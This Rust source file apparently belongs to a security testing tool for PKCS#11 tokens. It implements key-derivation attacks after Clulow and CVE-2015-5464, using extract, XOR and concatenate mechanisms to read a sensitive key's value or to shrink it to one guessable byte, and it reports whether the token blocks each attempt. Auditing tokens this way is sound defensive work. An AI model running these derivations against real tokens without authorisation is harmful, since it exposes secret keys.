//! Attacks by deriving keys.

use super::wrapping::{VALUE, secret};
use super::{Attack, Attempt, any_of, attack, stopped};
use crate::scenario::Host;
use crate::template::{Mechanism, Template, hold};
use cryptoki_sys::*;

fn with_data(id: CK_MECHANISM_TYPE, data: &[u8]) -> Mechanism {
    let (pointer, owned) = hold(data);
    let parameter = CK_KEY_DERIVATION_STRING_DATA { pData: pointer, ulLen: data.len() as CK_ULONG };
    Mechanism::with(id, parameter, vec![owned])
}

/// Derivations whose results hold bytes of the key, all of it or its first ones.
fn mechanisms() -> Vec<Mechanism> {
    vec![
        Mechanism::with::<CK_EXTRACT_PARAMS>(CKM_EXTRACT_KEY_FROM_KEY, 0, Vec::new()),
        with_data(CKM_XOR_BASE_AND_DATA, &[0; 16]),
        with_data(CKM_CONCATENATE_BASE_AND_DATA, b"known"),
    ]
}

/// Derives a key of so many bytes that may be read if `readable`.
fn derive(h: &Host, length: usize, readable: bool) -> Attempt {
    let session = h.user()?;
    let base = secret(&session, true, Template::new().bool(CKA_DERIVE, true))?;
    any_of(mechanisms(), |mechanism| {
        h.needs_flags(mechanism.raw.mechanism, CKF_DERIVE)?;
        let template = Template::new()
            .class(CKO_SECRET_KEY)
            .ulong(CKA_KEY_TYPE, CKK_GENERIC_SECRET)
            .ulong(CKA_VALUE_LEN, length as CK_ULONG)
            .bool(CKA_TOKEN, false)
            .bool(CKA_SIGN, true)
            .bool(CKA_SENSITIVE, !readable)
            .bool(CKA_EXTRACTABLE, readable);
        let key = session.derive(&mechanism, base, &template)?;
        match (readable, session.attribute(key, CKA_VALUE)) {
            (true, Ok(value)) if value == VALUE[..length] => {
                Ok("the value of a sensitive key was read".into())
            }
            (true, Ok(_)) => stopped("another value"),
            (true, Err(error)) => Err(error.into()),
            (false, _) => {
                Ok(format!("a key of {length} bytes of a sensitive key was made, whose values can be tried"))
            }
        }
    })
}

pub const ATTACKS: &[Attack] = &[
    attack("derive-a-readable-key", "CVE-2015-5464; Clulow 2003", |h| derive(h, 16, true)),
    attack("derive-a-key-of-one-byte", "CVE-2015-5464; Clulow 2003, reduced key space", |h| {
        derive(h, 1, false)
    }),
];
